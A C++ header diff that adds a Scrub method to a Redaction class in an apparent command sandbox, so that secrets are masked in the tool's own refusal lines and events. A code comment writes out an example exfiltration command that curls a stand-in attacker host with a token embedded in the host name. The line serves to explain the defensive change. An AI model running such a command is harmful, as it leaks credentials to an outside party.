@@ -42,10 +42,17 @@ class Redaction {
   // Builds the redactor on first use; nullptr when that failed (see failure()).
   const redact::Redactor* redactor();
 
+  // Text cordon itself reports that the command chose (a host name it asked the proxy for: `curl
+  // http://$TOKEN.evil.example/` must not carry the token out in a refusal line or an event): redacted like the
+  // output, and a secret value found in any letter case (names arrive lowercased) becomes a marker too. If the
+  // redactor cannot be built, the whole text is withheld.
+  std::string Scrub(const std::string& text);
+
  private:
   std::vector<redact::Rule> user_rules_;  // loaded (and checked) at Start; the built-in ones come at first use
   std::vector<std::string> known_values_;  // the plan's
   std::vector<std::string> files_;         // whose contents are secret values
+  std::vector<std::string> lowered_;       // the secret values' lines in lower case, for Scrub
   bool needed_ = false;                    // redactor() was called
   std::unique_ptr<redact::Redactor> redactor_;
   std::string failure_;
